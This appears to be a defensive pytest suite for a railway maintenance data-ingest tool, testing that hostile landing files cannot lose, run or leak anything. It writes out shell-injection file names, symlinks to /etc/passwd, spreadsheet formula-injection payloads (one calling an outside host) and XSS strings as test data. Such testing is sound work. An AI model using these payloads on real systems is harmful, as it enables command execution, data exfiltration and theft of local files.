"""Hostile deliveries: a landing file can lose nothing, run nothing and change nothing silently.

Each test lands several bad deliveries of one class side by side (as an attacker or a careless supplier
would send them) and checks what became of each: ingested, quarantined with its rule, set aside with its
reason, or listed as ignored, and that the lake holds exactly the accepted records.
"""

from __future__ import annotations

import csv
import json
import os
import shutil
import tempfile
from datetime import datetime, timezone
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from helpers import CHROMIUM, CHROMIUM_ARGS, FAULT, land_registry, telemetry_row, write_csv, write_jsonl
from typer.testing import CliRunner

from railpm import contracts
from railpm.config import FleetSettings, IngestSettings, Settings
from railpm.ingest import ingest_landing, summarise
from railpm.ingest.history import deliveries, part_as_delivered
from railpm.ingest.lake import contract_schema
from railpm.ingest.runs import read_ignored, read_run_records

REFERENCE_TIME = datetime(2025, 6, 1, tzinfo=timezone.utc)
SECRET = "SECRET-FIRST-LINE-OUTSIDE-THE-LANDING-FOLDER"


@pytest.fixture
def settings(tmp_path: Path) -> Settings:
    return Settings(data_root=tmp_path / "data", fleet=FleetSettings(days=120))


def faults(n: int, start: int = 1, **changes) -> list[dict]:
    return [{**FAULT, "event_id": f"F-{start + i:06d}", "ts": f"2025-01-{5 + i % 20:02d}T10:15:00Z", **changes} for i in range(n)]


def lake_frame(settings: Settings, feed: str) -> pd.DataFrame:
    folder = settings.lake_dir / feed
    files = sorted(folder.rglob("*.parquet")) if folder.is_dir() else []
    return pd.concat([pd.read_parquet(f) for f in files]) if files else pd.DataFrame()


def by_file(records: list[dict]) -> dict[str, dict]:
    return {r["file"]: r for r in records}


def assert_lake_holds_exactly_the_accepted(settings: Settings, feed: str) -> None:
    records = [r for r in read_run_records(settings.runs_dir) if r["feed"] == feed and r["status"] == "ingested"]
    for record in records:
        assert record["rows_in"] == record["accepted"] + record["quarantined"] + record["duplicates_removed"] + record.get("held", 0), record
    assert len(lake_frame(settings, feed)) == sum(r["accepted"] for r in records)


def ingest_command(settings: Settings):
    from railpm.cli import app

    return CliRunner().invoke(app, ["ingest", "--data-root", str(settings.data_root)], terminal_width=240)


def secret_outside(tmp_path: Path) -> Path:
    outside = tmp_path / "outside"
    outside.mkdir(exist_ok=True)
    target = outside / "secret.csv"
    target.write_text(f"{SECRET}\n" + ",".join(contracts.FAULTS.column_names) + "\n")
    return target


def nothing_holds(settings: Settings, text: str) -> bool:
    return all(text.encode() not in p.read_bytes() for p in settings.data_root.rglob("*") if p.is_file() and not p.is_symlink())


# --------------------------------------------------------------------------------------------------
# File names are data
# --------------------------------------------------------------------------------------------------

HOSTILE_NAMES = [
    "faults-000?.jsonl",  # glob: matched faults-0001's parts and deleted them
    "faults-*.jsonl",
    "faults-[0-9].jsonl",
    "[bold red]faults[blink].jsonl",  # Rich markup (a file name holds no slash, so no closing tag)
    "[link=javascript:alert(1)]x.jsonl",
    "fäults-ünïcödé-故障.jsonl",
    "faults with spaces.jsonl",
    "faults\tcontrol\x01\x1b[31m.jsonl",
    "faults\nsecond line.jsonl",
    "faults-$(touch PWNED)-`id`.jsonl",  # shell
    "faults-<img src=x onerror=alert(1)>.jsonl",  # HTML
    os.fsdecode(b"faults-\xff\xfe-not-utf8.jsonl"),
]


def test_file_names_with_glob_markup_unicode_control_characters_and_spaces_are_handled_literally(settings, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    land_registry(settings)
    write_jsonl(settings.landing_dir / "faults" / "faults-0001.jsonl", faults(30))
    for i, name in enumerate(HOSTILE_NAMES):
        write_jsonl(settings.landing_dir / "faults" / name, faults(3, start=1000 + 10 * i))

    done = ingest_command(settings)

    assert done.exit_code == 0, done.output
    records = by_file(read_run_records(settings.runs_dir))
    assert records["faults/faults-0001.jsonl"]["accepted"] == 30
    for name in HOSTILE_NAMES:
        record = records[f"faults/{name}"]
        assert (record["status"], record["accepted"], record["quarantined"]) == ("ingested", 3, 0), name
    lake = lake_frame(settings, "faults")
    assert len(lake) == 30 + 3 * len(HOSTILE_NAMES) and lake["event_id"].is_unique  # the glob deleted nothing
    assert_lake_holds_exactly_the_accepted(settings, "faults")
    assert not (tmp_path / "PWNED").exists()
    assert "\x1b" not in done.output  # no escape sequence reaches the terminal
    assert (settings.data_docs_dir / "index.html").exists()

    again = ingest_command(settings)  # re-running the glob-named file must neither delete nor re-add
    assert again.exit_code == 0 and "ingested 0 new landing files" in again.output
    assert len(lake_frame(settings, "faults")) == len(lake)


def test_rich_markup_in_a_header_and_in_an_error_does_not_crash_the_command(settings):
    land_registry(settings)
    path = settings.landing_dir / "faults" / "faults-01.csv"
    path.parent.mkdir(parents=True)
    path.write_text(",".join(contracts.FAULTS.column_names[:-1] + ["[/x]"]) + "\nF-1,EMU-0001\n")
    (settings.landing_dir / "faults" / "[red]faults-02.csv").write_text("[bold]\n")
    (settings.landing_dir / "faults" / "faults-03\x1b[31m\n.csv").write_text("garbage\n")

    done = ingest_command(settings)

    assert done.exit_code == 0, done.output
    assert "[/x]" in done.output and "[red]faults-02.csv" in done.output
    assert "\x1b" not in done.output and "faults-03\\x1b[31m\\x0a.csv" in done.output  # one line, no colour
    assert {r["status"] for r in read_run_records(settings.runs_dir) if r["feed"] == "faults"} == {"rejected"}


# --------------------------------------------------------------------------------------------------
# Bounded readers
# --------------------------------------------------------------------------------------------------


def test_oversize_fields_lines_files_and_row_counts_set_the_file_aside_and_the_others_go_on(settings):
    limits = IngestSettings(max_field_bytes=1_000, max_line_bytes=5_000, max_file_bytes=200_000, max_rows=50)
    settings = Settings(data_root=settings.data_root, fleet=settings.fleet, ingest=limits)
    land_registry(settings)
    folder = settings.landing_dir / "faults"
    write_jsonl(folder / "faults-01-field.jsonl", faults(2) + [{**FAULT, "event_id": "F-9", "description": "x" * 2_000}])
    write_jsonl(folder / "faults-02-line.jsonl", [json.dumps({**FAULT, "description": "y" * 6_000})])
    write_jsonl(folder / "faults-03-rows.jsonl", faults(60))
    (folder / "faults-04-file.jsonl").write_text(json.dumps(FAULT) + "\n" + ("\n" * 250_000))
    frame = pd.DataFrame(faults(60))
    frame["ts"] = pd.to_datetime(frame["ts"], utc=True)
    pq.write_table(pa.Table.from_pandas(frame, schema=contract_schema(contracts.FAULTS), preserve_index=False), folder / "faults-05-rows.parquet")
    frame = pd.DataFrame(faults(1, start=70, description="z" * 2_000))
    frame["ts"] = pd.to_datetime(frame["ts"], utc=True)
    pq.write_table(pa.Table.from_pandas(frame, schema=contract_schema(contracts.FAULTS), preserve_index=False), folder / "faults-06-field.parquet")
    header = ",".join(contracts.FAULTS.column_names)
    (folder / "faults-07-field.csv").write_text(f"{header}\nF-80,EMU-0001,EMU,DEP-NORTH,2025-01-05T10:15:00Z,BR-110,brakes,C,{'q' * 3_000}\n")
    deep = "[" * 2_000 + "]" * 2_000  # a JSON parser's recursion, within the line limit
    write_jsonl(folder / "faults-08-deep.jsonl", [faults(1, start=90)[0], deep])
    write_jsonl(folder / "faults-09-good.jsonl", faults(5, start=100))

    records = by_file(ingest_landing(settings, REFERENCE_TIME))

    expected = {
        "faults-01-field.jsonl": "max_field_bytes",
        "faults-02-line.jsonl": "max_line_bytes",
        "faults-03-rows.jsonl": "max_rows",
        "faults-04-file.jsonl": "max_file_bytes",
        "faults-05-rows.parquet": "max_rows",
        "faults-06-field.parquet": "max_field_bytes",
        "faults-07-field.csv": "max_field_bytes",
    }
    for name, rule in expected.items():
        record = records[f"faults/{name}"]
        assert record["status"] == "rejected" and f"rule {rule}" in record["error"] and name in record["error"], record
        assert (settings.rejected_files_dir / "faults" / name).exists()
        assert rule in (settings.rejected_files_dir / "faults" / f"{name}.error.txt").read_text()
    deep_record = records["faults/faults-08-deep.jsonl"]
    assert (deep_record["accepted"], deep_record["rules"]) == (1, {"malformed_line": 1})
    assert records["faults/faults-09-good.jsonl"]["accepted"] == 5
    assert_lake_holds_exactly_the_accepted(settings, "faults")


def test_a_50_mb_first_field_no_longer_stops_ingest(settings):
    land_registry(settings)
    poison = settings.landing_dir / "faults" / "faults-00.csv"
    poison.parent.mkdir(parents=True)
    with open(poison, "wb") as handle:
        handle.write(b'"' + b"A" * 50 * 1024 * 1024 + b'"\n')
    write_jsonl(settings.landing_dir / "faults" / "faults-01.jsonl", faults(4))

    done = ingest_command(settings)

    assert done.exit_code == 0, done.output
    records = by_file(read_run_records(settings.runs_dir))
    assert records["faults/faults-00.csv"]["status"] == "rejected" and "max_line_bytes" in records["faults/faults-00.csv"]["error"]
    assert records["faults/faults-01.jsonl"]["accepted"] == 4
    assert "Traceback" not in done.output


def test_encodings_utf16_latin1_bom_and_cp1252_each_get_a_clear_outcome(settings):
    land_registry(settings)
    folder = settings.landing_dir / "faults"
    folder.mkdir(parents=True)
    header = ",".join(contracts.FAULTS.column_names)
    line = "F-{},EMU-0001,EMU,DEP-NORTH,2025-01-05T10:15:00Z,BR-110,brakes,C,{}"
    (folder / "faults-01-utf16.csv").write_bytes(f"{header}\n{line.format(1, 'ok')}\n".encode("utf-16"))
    (folder / "faults-02-latin1.csv").write_bytes(
        f"{header}\n{line.format(2, 'ok')}\n".encode() + line.format(3, "Bremsdruck zu hoch, Ventil geöffnet").encode("latin-1") + b"\n"
    )
    (folder / "faults-03-bom.csv").write_bytes(f"{header}\n{line.format(4, 'ok')}\n".encode("utf-8-sig"))
    (folder / "faults-04-cp1252.jsonl").write_bytes(
        json.dumps({**FAULT, "event_id": "F-5"}).encode() + b"\n" + json.dumps({**FAULT, "event_id": "F-6", "description": "d\u2019oh"}, ensure_ascii=False).encode("cp1252") + b"\n"
    )

    records = by_file(ingest_landing(settings, REFERENCE_TIME))

    assert records["faults/faults-01-utf16.csv"]["status"] == "rejected" and "not UTF-8" in records["faults/faults-01-utf16.csv"]["error"]
    latin1 = records["faults/faults-02-latin1.csv"]
    assert (latin1["accepted"], latin1["rules"]) == (1, {"malformed_line": 1})
    assert records["faults/faults-03-bom.csv"]["accepted"] == 1
    cp1252 = records["faults/faults-04-cp1252.jsonl"]
    assert (cp1252["accepted"], cp1252["rules"]) == (1, {"malformed_line": 1})
    assert_lake_holds_exactly_the_accepted(settings, "faults")


# --------------------------------------------------------------------------------------------------
# Landing paths stay inside the landing folder; every entry has an outcome
# --------------------------------------------------------------------------------------------------


def test_symlinks_out_are_refused_unread_and_links_inside_are_read(settings, tmp_path):
    land_registry(settings)
    folder = settings.landing_dir / "faults"
    write_jsonl(folder / "faults-01.jsonl", faults(2))
    target = secret_outside(tmp_path)
    (folder / "faults-02-out.csv").symlink_to(target)
    (folder / "faults-03-etc.csv").symlink_to("/etc/passwd")
    (folder / "faults-04-broken.jsonl").symlink_to(tmp_path / "nowhere.jsonl")
    (folder / "faults-05-up.jsonl").symlink_to(Path("..") / ".." / ".." / "outside" / "secret.csv")
    archive = settings.landing_dir / "archive"
    write_jsonl(archive / "kept.jsonl", faults(3, start=50))
    (folder / "faults-06-in.jsonl").symlink_to(archive / "kept.jsonl")
    os.mkfifo(folder / "faults-07-fifo.jsonl")  # reading a pipe would block ingest for ever
    (folder / "nested").symlink_to(tmp_path / "outside", target_is_directory=True)

    done = ingest_command(settings)

    assert done.exit_code == 0, done.output
    records = by_file(read_run_records(settings.runs_dir))
    for name, reason in [
        ("faults-02-out.csv", "outside the landing folder"),
        ("faults-03-etc.csv", "outside the landing folder"),
        ("faults-04-broken.jsonl", "leads nowhere"),
        ("faults-05-up.jsonl", "outside the landing folder"),
        ("faults-07-fifo.jsonl", "not a regular file"),
    ]:
        record = records[f"faults/{name}"]
        assert record["status"] == "rejected" and reason in record["error"] and record["sha256"] is None, record
        assert os.path.lexists(settings.rejected_files_dir / "faults" / name)
    assert target.read_text().startswith(SECRET)  # the target itself is untouched
    assert records["faults/faults-06-in.jsonl"]["accepted"] == 3
    assert SECRET not in done.output and "root:" not in done.output and nothing_holds(settings, SECRET)
    ignored = {i["file"]: i["reason"] for i in read_ignored(settings.runs_dir)}
    assert "not in a feed folder" in ignored["archive/kept.jsonl"] and "not a landing format" in ignored["faults/nested"]
    assert_lake_holds_exactly_the_accepted(settings, "faults")


def test_subfolders_other_extensions_and_hidden_files_are_listed_as_ignored_with_their_reason(settings):
    land_registry(settings)
    folder = settings.landing_dir / "faults"
    write_jsonl(folder / "faults-01.jsonl", faults(2))
    write_jsonl(folder / "2025" / "faults-02.jsonl", faults(2, start=10))
    (folder / "faults-03.xlsx").write_bytes(b"PK\x03\x04")
    (folder / "faults-04.jsonl.gz").write_bytes(b"\x1f\x8b")
    (folder / ".faults-05.jsonl.part").write_text("{")
    (settings.landing_dir / "README.txt").write_text("drop files here")
    write_jsonl(settings.landing_dir / "weather" / "w.jsonl", [{"t": 1}])

    done = ingest_command(settings)

    assert done.exit_code == 0, done.output
    ignored = {i["file"]: i["reason"] for i in read_ignored(settings.runs_dir)}
    assert ignored == {
        "faults/2025/faults-02.jsonl": "in a subfolder of faults/: only files directly in a feed folder are landing files",
        "faults/faults-03.xlsx": "not a landing format (csv, jsonl, parquet)",
        "faults/faults-04.jsonl.gz": "not a landing format (csv, jsonl, parquet)",
        "faults/.faults-05.jsonl.part": "a hidden file (a delivery still being written?)",
        "README.txt": f"not in a feed folder ({', '.join(contracts.FEEDS)})",
        "weather/w.jsonl": f"not in a feed folder ({', '.join(contracts.FEEDS)})",
    }
    for name in ignored:
        assert name.split("/")[-1] in done.output
    assert by_file(read_run_records(settings.runs_dir))["faults/faults-01.jsonl"]["accepted"] == 2


def test_empty_and_header_only_files_of_every_format_get_a_clear_outcome(settings):
    land_registry(settings)
    folder = settings.landing_dir / "faults"
    folder.mkdir(parents=True)
    for name in ("faults-01-empty.csv", "faults-02-empty.jsonl", "faults-03-empty.parquet"):
        (folder / name).write_bytes(b"")
    (folder / "faults-04-header.csv").write_text(",".join(contracts.FAULTS.column_names) + "\n")
    pq.write_table(contract_schema(contracts.FAULTS).empty_table(), folder / "faults-05-header.parquet")
    (folder / "faults-06-blank.jsonl").write_text("\n\n")

    records = by_file(ingest_landing(settings, REFERENCE_TIME))

    for name in ("faults-01-empty.csv", "faults-02-empty.jsonl", "faults-03-empty.parquet"):
        record = records[f"faults/{name}"]
        assert record["status"] == "rejected" and "empty file (0 bytes)" in record["error"] and "file_not_empty" in record["error"]
    for name in ("faults-04-header.csv", "faults-05-header.parquet"):
        record = records[f"faults/{name}"]
        assert (record["status"], record["rows_in"], record["accepted"]) == ("ingested", 0, 0)
    assert records["faults/faults-06-blank.jsonl"]["status"] == "rejected"
    assert "no line is a JSON object" in records["faults/faults-06-blank.jsonl"]["error"]


def test_an_empty_registry_file_is_set_aside_and_event_files_wait_for_it_without_aborting(settings):
    (settings.landing_dir / "vehicles").mkdir(parents=True)
    (settings.landing_dir / "vehicles" / "vehicles.csv").write_bytes(b"")
    write_csv(settings.landing_dir / "telemetry" / "telemetry-0001.csv", contracts.TELEMETRY, [telemetry_row("EMU-0001", 0)])
    write_jsonl(settings.landing_dir / "faults" / "faults-01.jsonl", faults(1))

    done = ingest_command(settings)

    assert done.exit_code == 0, done.output
    records = by_file(read_run_records(settings.runs_dir))
    assert records["vehicles/vehicles.csv"]["status"] == "rejected" and "empty file" in records["vehicles/vehicles.csv"]["error"]
    for name in ("telemetry/telemetry-0001.csv", "faults/faults-01.jsonl"):
        assert records[name]["status"] == "waiting" and "vehicle registry is not in the lake" in records[name]["error"]
        assert (settings.landing_dir / name).exists()
    land_registry(settings)
    assert {r["status"] for r in ingest_landing(settings, REFERENCE_TIME)} == {"ingested"}


# --------------------------------------------------------------------------------------------------
# Control characters and timestamps
# --------------------------------------------------------------------------------------------------


def test_control_characters_in_keys_and_codes_are_quarantined_by_a_gx_rule(settings):
    land_registry(settings)
    write_jsonl(
        settings.landing_dir / "faults" / "faults-01.jsonl",
        [
            *faults(1),
            {**FAULT, "event_id": "F-00\x002"},  # NUL in the key
            {**FAULT, "event_id": "F-3\x1b[2J"},  # an escape sequence
            {**FAULT, "event_id": "F-4\t"},
            {**FAULT, "event_id": "F-5", "description": "line one\nline two"},  # free text may hold a newline
        ],
    )
    orders = settings.landing_dir / "work_orders" / "work_orders-01.csv"
    orders.parent.mkdir(parents=True)
    columns = contracts.WORK_ORDERS.column_names
    good = {"work_order_id": "WO-1", "vehicle_number": "EMU-0001", "depot": "DEP-NORTH", "action": "inspection", "opened_at": "2025-01-03T08:00:00Z", "odometer_km": "1000"}
    rows = [good, {**good, "work_order_id": "WO-\x002"}, {**good, "work_order_id": "WO-3\x07"}]
    orders.write_text(",".join(columns) + "\n" + "".join(",".join(r.get(c, "") for c in columns) + "\n" for r in rows))

    records = by_file(ingest_landing(settings, REFERENCE_TIME))

    assert records["faults/faults-01.jsonl"]["rules"] == {"event_id_no_control_chars": 3}
    assert records["faults/faults-01.jsonl"]["accepted"] == 2
    quarantine = pd.read_parquet(settings.quarantine_dir / "faults" / "faults-01.parquet")
    assert sorted(quarantine["_source_row"]) == [2, 3, 4] and set(quarantine["_rules"]) == {"event_id_no_control_chars"}
    assert quarantine.loc[quarantine["_source_row"] == 2, "event_id"].item() == "F-00\x002"  # kept as delivered
    work_orders = records["work_orders/work_orders-01.csv"]
    assert work_orders["rules"] == {"work_order_id_no_control_chars": 2} and work_orders["accepted"] == 1
    assert not any("\x00" in key for key in lake_frame(settings, "work_orders")["work_order_id"])


def test_naive_timestamps_are_refused_unless_the_feed_declares_the_fleets_zone(settings):
    land_registry(settings)
    rows = [
        {**FAULT, "event_id": "F-1", "ts": "2025-01-05T10:15:00Z"},
        {**FAULT, "event_id": "F-2", "ts": "2025-01-05T10:15:00"},  # naive
        {**FAULT, "event_id": "F-3", "ts": "2025-01-05 11:15:00+01:00"},  # mixed offsets in one file
        {**FAULT, "event_id": "F-4", "ts": "2025-01-05"},  # a date where a time is due
        {**FAULT, "event_id": "F-5", "ts": "1970-01-01T00:00:00Z"},  # out of range
        {**FAULT, "event_id": "F-6", "ts": "2099-01-01T00:00:00Z"},  # the period has no end of its own: only future
        {**FAULT, "event_id": "F-7", "ts": "1736072100"},  # epoch seconds
        {**FAULT, "event_id": "F-8", "ts": "2025-03-30T02:30:00"},  # does not exist in Berlin (DST)
    ]
    write_jsonl(settings.landing_dir / "faults" / "faults-01.jsonl", rows)

    refused = by_file(ingest_landing(settings, REFERENCE_TIME))["faults/faults-01.jsonl"]

    quarantine = pd.read_parquet(settings.quarantine_dir / "faults" / "faults-01.parquet").set_index("event_id")["_rules"].to_dict()
    assert quarantine == {
        "F-2": "ts_has_zone", "F-4": "ts_has_zone", "F-5": "ts_in_period", "F-6": "ts_not_future",
        "F-7": "ts_parseable", "F-8": "ts_has_zone",
    }
    assert refused["accepted"] == 2

    zone = IngestSettings(naive_timestamps={"faults": "fleet"}, fleet_time_zone="Europe/Berlin")
    berlin = Settings(data_root=settings.data_root.parent / "berlin", fleet=settings.fleet, ingest=zone)
    land_registry(berlin)
    write_jsonl(berlin.landing_dir / "faults" / "faults-01.jsonl", rows)
    local = by_file(ingest_landing(berlin, REFERENCE_TIME))["faults/faults-01.jsonl"]
    lake = lake_frame(berlin, "faults").set_index("event_id")["ts"]
    assert lake["F-2"] == pd.Timestamp("2025-01-05T09:15:00Z")  # 10:15 in Berlin's winter is 09:15 UTC
    assert lake["F-3"] == lake["F-2"] + pd.Timedelta(hours=1)
    assert lake["F-4"] == pd.Timestamp("2025-01-04T23:00:00Z")
    assert "F-8" not in lake.index and local["rules"]["ts_parseable"] == 2  # the skipped hour, and epoch seconds


# --------------------------------------------------------------------------------------------------
# A changed re-delivery is a revision
# --------------------------------------------------------------------------------------------------


def test_a_changed_redelivery_keeps_what_it_drops_and_changes_and_the_history_replays(settings):
    land_registry(settings)
    path = settings.landing_dir / "faults" / "faults-01.jsonl"
    first = faults(4)
    write_jsonl(path, first)
    one = by_file(ingest_landing(settings, REFERENCE_TIME))["faults/faults-01.jsonl"]
    second = [first[0], {**first[2], "grade": "A", "description": "worse than reported"}, first[3], *faults(1, start=50)]  # F-2 gone
    write_jsonl(path, second)
    two = by_file(ingest_landing(settings, REFERENCE_TIME))["faults/faults-01.jsonl"]
    path.write_text("")  # a third delivery of 0 bytes is set aside: it withdraws nothing
    three = by_file(ingest_landing(settings, REFERENCE_TIME))["faults/faults-01.jsonl"]

    assert two["redelivery"]["dropped"] == 1 and two["redelivery"]["changed"] == 1 and two["redelivery"]["earlier_accepted"] == 4
    changes = pd.read_parquet(settings.revisions_dir / "faults" / f"faults-01@{one['sha256'][:16]}.changes.parquet")
    assert dict(zip(changes["event_id"], changes["_rules"])) == {"F-000002": "dropped_by_redelivery", "F-000003": "changed_by_redelivery"}
    assert changes.set_index("event_id").loc["F-000003", "grade"] == "C"  # the earlier version, as it was
    assert three["status"] == "rejected"  # an empty file is set aside: the second delivery stays in the lake
    assert sorted(lake_frame(settings, "faults")["event_id"]) == ["F-000001", "F-000003", "F-000004", "F-000050"]

    history = deliveries(settings, "faults", "faults-01")
    assert [d["sha256"] for d in history] == [one["sha256"], two["sha256"]]
    assert history[0]["accepted"] == 4 and "redelivery" not in history[0]  # the first run record is not overwritten
    assert sorted(part_as_delivered(settings, "faults", "faults-01", one["sha256"]).column("event_id").to_pylist()) == [f"F-00000{i}" for i in range(1, 5)]
    replayed = part_as_delivered(settings, "faults", "faults-01", two["sha256"]).to_pandas().set_index("event_id")
    assert replayed.loc["F-000003", "grade"] == "A" and "F-000002" not in replayed.index
    assert_lake_holds_exactly_the_accepted(settings, "faults")


def test_a_redelivery_with_only_a_header_withdraws_every_record_into_the_revisions(settings):
    land_registry(settings)
    path = settings.landing_dir / "faults" / "faults-01.csv"
    write_csv(path, contracts.FAULTS, faults(3))
    one = by_file(ingest_landing(settings, REFERENCE_TIME))["faults/faults-01.csv"]
    write_csv(path, contracts.FAULTS, [])
    two = by_file(ingest_landing(settings, REFERENCE_TIME))["faults/faults-01.csv"]

    assert (two["rows_in"], two["redelivery"]["dropped"]) == (0, 3)
    assert lake_frame(settings, "faults").empty
    changes = pd.read_parquet(settings.revisions_dir / "faults" / f"faults-01@{one['sha256'][:16]}.changes.parquet")
    assert len(changes) == 3 and set(changes["_rules"]) == {"dropped_by_redelivery"}


# --------------------------------------------------------------------------------------------------
# What leaves the system: spreadsheets
# --------------------------------------------------------------------------------------------------


def test_csv_written_for_planners_carries_no_live_formula(tmp_path):
    from railpm.layers import write_atomically

    frame = pd.DataFrame(
        {
            "description": ['=HYPERLINK("http://x.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR", "brake pad"],
            "quantity": [-1, 2, 3, 4, 5, 6, 7],
        }
    )
    write_atomically(frame, tmp_path, "spares_plan")

    with open(tmp_path / "spares_plan.csv", newline="") as handle:
        header, *rows = list(csv.reader(handle))
    assert header == ["description", "quantity"]
    for cell, _ in rows:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert rows[-1][0] == "brake pad" and rows[0][0].startswith("'=HYPERLINK") and rows[5][0] == "'\rCR"
    assert [int(q) for _, q in rows] == [-1, 2, 3, 4, 5, 6, 7]  # numbers stay numbers
    assert pd.read_parquet(tmp_path / "spares_plan.parquet")["description"][0].startswith("=HYPERLINK")  # data unchanged


# --------------------------------------------------------------------------------------------------
# What leaves the system: Data Docs in a real browser
# --------------------------------------------------------------------------------------------------


@pytest.mark.slow  # a browser: out of the fast lane, as the review app's browser tests
def test_data_docs_of_a_hostile_delivery_run_no_script_in_chromium(settings):
    from playwright.sync_api import sync_playwright

    land_registry(settings)
    script = "<script>window.__xss = 1</script>"
    image = '<img src=x onerror="window.__xss = 2">'
    write_jsonl(
        settings.landing_dir / "faults" / "faults-<img src=x onerror=window.__xss=3>.jsonl",
        [
            *faults(1),
            {**FAULT, "event_id": "F-2", "vehicle_number": script},
            {**FAULT, "event_id": "F-3", "fault_code": image},
            {**FAULT, "event_id": "F-4", "grade": "<svg onload=window.__xss=4>"},
        ],
    )
    done = ingest_command(settings)
    assert done.exit_code == 0, done.output
    pages = [settings.data_docs_dir / "index.html", *sorted((settings.data_docs_dir / "validations").rglob("*.html"))]
    assert len(pages) >= 3

    shown = ""
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS, headless=True)
        page = browser.new_page()
        dialogs: list[str] = []
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        for path in pages:
            page.goto(path.as_uri())
            page.wait_for_load_state("load")
            assert page.evaluate("window.__xss") is None, path
            shown += page.text_content("body") or ""
        browser.close()
    assert dialogs == []
    assert script in shown and image in shown  # the values are shown, as text


# --------------------------------------------------------------------------------------------------
# Property: whatever lands, nothing is lost, nothing outside is read, the command exits cleanly
# --------------------------------------------------------------------------------------------------

from hypothesis import HealthCheck, given, settings as hypothesis_settings, strategies as st  # noqa: E402

NAME = st.text(st.characters(blacklist_characters="/\x00", blacklist_categories=("Cs",)), min_size=1, max_size=16)
RECORD = st.one_of(
    st.fixed_dictionaries(
        {
            "event": st.integers(1, 12),
            "vehicle_number": st.sampled_from(["EMU-0001", "EMU-0002", "EMU-0099", "EMU-0001\x00", "[b]EMU"]),
            "grade": st.sampled_from(["A", "B", "C", "Z", "=1+1"]),
            "ts": st.sampled_from(["2025-01-05T10:15:00Z", "2025-01-06T10:15:00", "2099-01-01T00:00:00Z", "yesterday"]),
        }
    ),
    st.text(max_size=40),  # a line of anything
)
DELIVERY = st.tuples(NAME, st.sampled_from(["csv", "jsonl"]), st.lists(RECORD, max_size=12))


def _line(record, fmt: str) -> str:
    if isinstance(record, str):
        return record.replace("\n", " ")
    row = {**FAULT, "event_id": f"F-{record['event']}", **{k: v for k, v in record.items() if k != "event"}}
    if fmt == "jsonl":
        return json.dumps(row)
    return ",".join(json.dumps(str(row[c])) if "," in str(row[c]) or '"' in str(row[c]) else str(row[c]) for c in contracts.FAULTS.column_names)


@pytest.fixture(scope="module")
def registry_root(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("registry") / "data"
    settings = Settings(data_root=root, fleet=FleetSettings(days=120))
    land_registry(settings)
    ingest_landing(settings, REFERENCE_TIME)
    return root


@hypothesis_settings(max_examples=4, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
@given(deliveries=st.lists(DELIVERY, min_size=1, max_size=3), link_name=NAME)
def test_property_whatever_lands_nothing_is_lost_nothing_outside_is_read_and_the_command_exits_cleanly(registry_root, deliveries, link_name):
    with tempfile.TemporaryDirectory() as scratch:
        root = Path(scratch) / "data"
        shutil.copytree(registry_root, root, symlinks=True)
        settings = Settings(data_root=root, fleet=FleetSettings(days=120))
        folder = settings.landing_dir / "faults"
        folder.mkdir(parents=True)
        target = secret_outside(Path(scratch))
        landed = set()
        for name, fmt, records in deliveries:
            path = folder / f"{name}.{fmt}"
            if path.name in landed:
                continue
            landed.add(path.name)
            header = [",".join(contracts.FAULTS.column_names)] if fmt == "csv" else []
            path.write_text("\n".join(header + [_line(r, fmt) for r in records]) + ("\n" if records else ""), encoding="utf-8", errors="surrogateescape")
        link = folder / f"{link_name}.csv"
        linked = not os.path.lexists(link)
        if linked:
            link.symlink_to(target)

        done = ingest_command(settings)

        assert done.exit_code == 0, done.output
        assert SECRET not in done.output and nothing_holds(settings, SECRET)
        records = [r for r in read_run_records(settings.runs_dir) if r["feed"] == "faults"]
        ignored = {i["file"] for i in read_ignored(settings.runs_dir)}
        for name in sorted(landed | {link.name}):
            outcome = [r for r in records if r["file"] == f"faults/{name}"]
            assert outcome or f"faults/{name}" in ignored, name  # every file has an outcome
        if linked:
            assert [r["status"] for r in records if r["file"] == f"faults/{link.name}"] in ([], ["rejected"])
        ingested = [r for r in records if r["status"] == "ingested"]
        for record in ingested:
            assert record["rows_in"] == record["accepted"] + record["quarantined"] + record["duplicates_removed"] + record.get("held", 0), record
            quarantine = settings.quarantine_dir / "faults" / f"{record['part']}.parquet"
            assert (len(pd.read_parquet(quarantine)) if quarantine.exists() else 0) == record["quarantined"], record
        lake = lake_frame(settings, "faults")
        assert len(lake) == sum(r["accepted"] for r in ingested)
        assert lake.empty or (lake["event_id"].is_unique and lake["vehicle_number"].isin(["EMU-0001", "EMU-0002"]).all())
        assert summarise(records)["feeds"].get("faults", {}).get("accepted", 0) == len(lake)
